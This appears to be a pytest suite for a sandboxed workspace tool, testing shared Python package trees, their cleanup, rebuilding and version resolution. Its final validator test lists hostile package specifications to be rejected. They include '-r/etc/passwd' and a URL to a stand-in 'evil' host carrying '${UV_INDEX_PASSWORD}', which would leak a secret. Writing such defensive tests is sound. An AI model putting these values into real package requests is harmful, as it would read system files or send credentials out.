"""Package trees that several workspaces share."""

import json
import os
import shutil
import subprocess

import pytest

from prism.agent.packages.package_trees import are_plain, recorded
from prism.agent.sandbox import identity
from prism.providers.local.cleaning import Cleaner
from prism.templates.model import Template
from prism.workspaces.model import Observed
from tests.attacks.index import Index
from tests.disks import overlaid
from tests.optional import not_none
from tests.providers.local.sharing import PACKAGES, shared, summed
from tests.providers.local.test_life import (
    LENT,
    NOBODY,
    as_root_only_in_test_all,
    python_for_all,
    surroundings,
)
from tests.providers.local.test_sandbox import run
from tests.providers.local.world import World
from tests.waiting import eventually

pytestmark = pytest.mark.needs("bwrap")
UNTOUCHED = "[False, False, True, False]"
SHARED_NETWORK = {"PRISM_WORKSPACE_NETWORK": "shared"}
ATTACKED = "[True, True, False, True]"


def judge(result):
    assert result["sandbox"] == "bubblewrap"
    assert result["done"] == "['links', 'links']", "links of its own copies are allowed"
    assert result["after"] == result["restarted"] == [ATTACKED, UNTOUCHED]
    assert result["new"] == [UNTOUCHED]
    assert result["untouched"]
    assert result["trees"] == 1
    assert result["own_kib"] < 200, "the packages are in the shared tree"
    assert len(result["owners"]) == 1, "the daemon's user owns every file"


@as_root_only_in_test_all
def test_workspace_changes_only_its_own_packages(tmp_path):
    judge(shared(tmp_path / "prism", tmp_path / "prism" / "cache"))


@pytest.mark.skipif(os.getuid() != 0, reason="the test above ran as an ordinary user")
def test_workspace_of_an_ordinary_user_changes_only_its_own_packages():
    with surroundings(NOBODY, None) as (home, environ):
        argv = [*LENT, "env", python_for_all(), "-m", "tests.providers.local.sharing"]
        argv += [home / "prism", home / "prism" / "cache"]
        done = subprocess.run(argv, env=environ, cwd=home, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    judge(json.loads(done.stdout))


@pytest.fixture
def package_index(monkeypatch):
    index = Index()
    monkeypatch.setenv("UV_DEFAULT_INDEX", f"{index.url}/simple")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    for name in ("good", "spare", "packed"):
        index.wheel(name, {f"{name}.py": f"{name} = 1\n"})
    yield index
    index.close()


@pytest.fixture
def world(tmp_path, package_index):
    world = World(tmp_path / "prism", tmp_path / "prism" / "cache", environ=SHARED_NETWORK)
    yield world
    world.close()


def trees(world):
    return {path.name for path in (world.cache / "trees").glob("*")}


def cleaned(world, *, dry_run=False):
    [removed] = [
        item
        for item in Cleaner(world.root.parent).clean(dry_run=dry_run)
        if item.kind == "package trees"
    ]
    return removed


def terminate(world, id):
    world.compute.terminate(id)
    world.becomes(id, Observed.GONE)


def test_tree_is_cleaned_only_if_no_running_or_stopped_workspace_uses_it(world):
    workspace = world.launched(PACKAGES)
    two = world.launched(Template(name="u", packages={"pip": ("good",)}), key="ws_2")
    world.compute.stop(workspace)
    world.becomes(workspace, Observed.OFF)
    assert len(trees(world)) == 2
    assert cleaned(world).items == 0
    terminate(world, two)
    assert cleaned(world, dry_run=True).items == 1
    assert len(trees(world)) == 2
    assert cleaned(world).items == 1
    assert "workspaces that use them: 1" in cleaned(world).in_use[0]
    assert trees(world) == {not_none(recorded(world.root / workspace))["tree"]}
    world.compute.start(workspace)
    world.becomes(workspace, Observed.ON)
    assert run(world, workspace, "python", "-c", "import good, spare") == (0, "")
    terminate(world, workspace)
    assert cleaned(world).items == 1
    assert trees(world) == set()


def test_tree_removed_by_hand_is_rebuilt_and_own_changes_are_kept(world, package_index):
    id = world.launched(PACKAGES)
    before = recorded(world.root / id)
    code = "import good, pathlib; pathlib.Path(good.__file__).with_name('own.py').touch()"
    assert run(world, id, "python", "-c", code) == (0, "")
    world.compute.stop(id)
    world.becomes(id, Observed.OFF)
    shutil.rmtree(world.cache)
    world.compute.start(id)
    world.becomes(id, Observed.ON)
    assert run(world, id, "python", "-c", "import good, spare, own") == (0, "")
    assert recorded(world.root / id) == before
    world.compute.stop(id)
    world.becomes(id, Observed.OFF)
    shutil.rmtree(world.cache)
    package_index.files.clear()
    world.compute.start(id)
    failure = eventually(lambda: world.machine(id).failure, 120)
    assert "cannot be installed again" in failure.message
    assert (world.root / id / "venv" / "upper").exists(), "its own changes are kept"


def test_tree_is_not_used_if_its_installation_was_killed(world, monkeypatch):
    """uv hangs in the middle, and its supervisor is killed."""
    shim = world.root.parent / "shim"
    world.root.parent.mkdir(exist_ok=True)
    script = (
        '#!/bin/sh\n{uv} "$@" || exit\ncase "$*" in *--no-deps*) exec /usr/bin/sleep 600;; esac\n'
    )
    id = world.launch(Template(name="t"))
    world.becomes(id, Observed.ON)
    world.compute.stop(id)
    world.becomes(id, Observed.OFF)
    order = json.loads((world.root / id / "order.json").read_bytes())
    shim.write_text(script.format(uv=order["uv"]))
    shim.chmod(0o755)
    changed = {"uv": str(shim), "reachable": [*order["reachable"], str(shim)]}
    world.change_spec(id, packages=["good"], **changed)
    world.compute.start(id)
    drafts = world.cache / "drafts"
    eventually(lambda: list(drafts.glob("*/venv/lib/*/site-packages/good.py")), 120)
    supervisor = world.supervisor(id)
    supervisor.kill()
    supervisor.wait()
    assert trees(world) == set()
    assert recorded(world.root / id) is None
    world.change_spec(id, uv=order["uv"])
    world.becomes(id, Observed.OFF)
    world.compute.start(id)
    world.becomes(id, Observed.ON)
    assert run(world, id, "python", "-c", "import good") == (0, "")
    assert len(trees(world)) == 1
    left = [path for path in drafts.iterdir() if path.is_dir()]
    assert left, "the draft of the killed installation is left"
    assert cleaned(world).items >= 1
    assert not [*drafts.iterdir()]


@pytest.fixture
def disk_without_id_maps(tmp_path):
    if os.getuid() != 0:
        pytest.skip("needs root: it mounts")
    with overlaid(tmp_path) as place:
        yield place


def test_packages_are_copied_where_an_overlay_is_impossible(disk_without_id_maps, package_index):
    home = disk_without_id_maps / "prism"
    world = World(home, home / "cache", environ=SHARED_NETWORK)
    try:
        id = world.launched(PACKAGES)
        assert recorded(world.root / id) is None
        [file] = (world.root / id / "venv").glob("lib/*/site-packages/good.py")
        assert file.stat().st_nlink == 1, "the file is not linked to the cache"
        assert run(world, id, "python", "-c", "import good") == (0, "")
        assert not (world.root / id / "overlay-trial").exists()
        assert trees(world) == set()
    finally:
        world.close()


def test_tree_stays_readable_when_the_cache_changes_its_owner(world, disk_without_id_maps):
    """A tree's files are hard links to the wheels of the cache."""
    if not identity.is_privileged():
        pytest.skip("needs root with CAP_SYS_ADMIN: only it gives files to other users")
    read = ("python", "-c", "import good; open(good.__file__).read()")
    first = world.launched(PACKAGES)
    cache = world.root.parent / "cache"
    other = World(disk_without_id_maps / "prism", cache, environ=SHARED_NETWORK)
    try:
        id = other.launched(PACKAGES, key="ws_2")
        assert run(other, id, *read) == (0, "")
        assert (cache / "wheels").stat().st_uid == identity.UidRange.configured().first
    finally:
        other.close()
    for id in (first, world.launched(PACKAGES, key="ws_3")):
        assert run(world, id, *read) == (0, "")
    world.launched(Template(name="u", packages={"pip": ("good",)}), key="ws_4")  # uv runs
    owners = {path.lstat().st_uid for path in (cache, *cache.rglob("*"))}
    assert owners == {os.geteuid()}, "all of it is the daemon's again"


def resolved_ago(world, seconds):
    """Make all chosen versions older."""
    for path in (world.cache / "resolutions").glob("*.json"):
        stored = json.loads(path.read_bytes())
        path.write_text(json.dumps({**stored, "at": stored["at"] - seconds}))


def version_of_good(world, id):
    return run(world, id, "python", "-c", "import good; print(good.good)")[1].strip()


def test_second_launch_runs_no_tool(world):
    """Neither one with packages, nor one without."""
    world.launched(PACKAGES)
    world.launched(Template(name="t"), key="ws_2")
    first = world.launched(PACKAGES, key="ws_3")
    second = world.launched(Template(name="t"), key="ws_4")
    third = world.launched(Template(name="t"), key="ws_5")
    assert recorded(world.root / first) is not None
    assert recorded(world.root / third) == recorded(world.root / second)
    for id in (first, third):
        assert not (world.root / id / "install-etc").exists(), "the installer's sandbox was made"
    assert run(world, first, "python", "-c", "import good") == (0, "")
    assert run(world, third, "python", "-c", "import sys; print(sys.prefix)") == (
        *(0, f"{world.root / third / 'venv'}\n"),
    )


def test_new_versions_are_chosen_behind_a_launch_and_used_by_the_next(world, package_index):
    world.launched(PACKAGES)
    package_index.wheel("good", {"good.py": "good = 2\n"}, version="2.0")
    resolved_ago(world, 120)
    second = world.launched(PACKAGES, key="ws_2")
    assert version_of_good(world, second) == "1", "versions of two minutes ago are used"
    eventually(lambda: len(trees(world)) == 2, 120)
    assert version_of_good(world, world.launched(PACKAGES, key="ws_3")) == "2"
    assert version_of_good(world, second) == "1", "a workspace keeps its packages"


def test_versions_are_chosen_anew_after_an_hour_and_without_an_index_used_again(
    world, package_index
):
    world.launched(PACKAGES)
    package_index.wheel("good", {"good.py": "good = 2\n"}, version="2.0")
    resolved_ago(world, 4000)
    assert version_of_good(world, world.launched(PACKAGES, key="ws_2")) == "2"
    resolved_ago(world, 4000)
    package_index.close()
    offline = world.launched(PACKAGES, key="ws_3")
    assert version_of_good(world, offline) == "2"
    assert "the versions of before" in world.log(offline, "setup")


def test_concurrent_launches_install_one_shared_tree(world):
    ids = [world.launch(PACKAGES, key=f"ws_{n}") for n in range(3)]
    for id in ids:
        world.becomes(id, Observed.ON)
    assert len(trees(world)) == 1
    installers = [id_ for id_ in ids if "Installed" in world.log(id_, "setup")]
    assert len(installers) == 1


def test_changed_packages_replace_the_tree_and_empty_the_upper_layer(world):
    id = world.launched(PACKAGES)
    code = "import good, pathlib; pathlib.Path(good.__file__).with_name('own.py').touch()"
    assert run(world, id, "python", "-c", code) == (0, "")
    world.compute.stop(id)
    world.becomes(id, Observed.OFF)
    world.change_spec(id, packages=["spare"])
    world.compute.start(id)
    world.becomes(id, Observed.ON)
    look = "import importlib.util as u; print([u.find_spec(it) is None for it in ('good', 'own')])"
    assert run(world, id, "python", "-c", f"import spare; {look}") == (0, "[True, True]\n")


@pytest.mark.slow
def test_renamed_program_is_found_by_its_new_name_only(world, package_index):
    package_index.wheel(
        "tool",
        {"tool.py": "def main(): print('works')\n",
         "tool-1.0.dist-info/entry_points.txt": "[console_scripts]\ntool = tool:main\n"},
    )  # fmt: skip
    id = world.launched(Template(name="t", packages={"pip": ("tool",)}))
    assert run(world, id, "tool") == (0, "works\n")
    venv = f"{world.root / id}/venv"
    assert run(world, id, "sh", "-c", f"mv {venv}/bin/tool {venv}/bin/moved") == (0, "")
    assert run(world, id, "moved") == (0, "works\n")
    with pytest.raises(Exception, match="no program"):
        run(world, id, "tool")


@pytest.mark.slow
def test_pip_upgrades_and_removes_packages_without_changing_the_tree(tmp_path, package_cache):
    """The real pip, over packages that come from the tree."""
    world = World(tmp_path, package_cache)
    try:
        id = world.launched(Template(name="t", packages={"pip": ("six", "iniconfig")}))
        tree = world.tree_of(id)
        before = summed(tree)
        program = "import pathlib, zipfile; z = zipfile.ZipFile('six-99-py3-none-any.whl', 'w');"
        program += "z.writestr('six.py', 'new = 1');"
        program += "z.writestr('six-99.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: six\\n"
        program += "Version: 99\\n');"
        program += (
            "z.writestr('six-99.dist-info/WHEEL', 'Wheel-Version: 1.0\\nTag: py3-none-any\\n"
        )
        program += (
            "Root-Is-Purelib: true\\n'); z.writestr('six-99.dist-info/RECORD', ''); z.close()"
        )
        assert run(world, id, "python", "-c", program) == (0, "")
        pip = ["python", "-m", "pip", "--disable-pip-version-check", "--no-input"]
        code, output = run(world, id, *pip, "install", "--no-index", "./six-99-py3-none-any.whl")
        assert code == 0, output
        assert run(world, id, "python", "-c", "import six; print(six.new)") == (0, "1\n")
        code, output = run(world, id, *pip, "uninstall", "-y", "iniconfig")
        assert code == 0, output
        code, output = run(world, id, "python", "-c", "import iniconfig")
        assert code == 1
        assert "ModuleNotFoundError" in output
        assert summed(tree) == before
    finally:
        world.close()


@pytest.mark.parametrize(
    ("word", "is_plain"),
    [
        ("numpy", True),
        ("jupyterlab>=4,<5", True),
        ("dask[array,dataframe]==2026.1.*", True),
        ("scipy ~= 1.17", True),
        ("-r/etc/passwd", False),
        ("good\n-r/etc/passwd", False),
        ("good\n", False),
        ("x @ http://evil/${UV_INDEX_PASSWORD}", False),
        ("x==${SECRET}", False),
        ("git+https://evil/x", False),
        ("good; python_version > '3'", False),
        ("good --hash=sha256:0", False),
        ("./good.whl", False),
        ("good # more", False),
    ],
)
def test_packages_are_plain_if_they_have_only_names_and_versions(word, is_plain):
    assert are_plain([word]) is is_plain
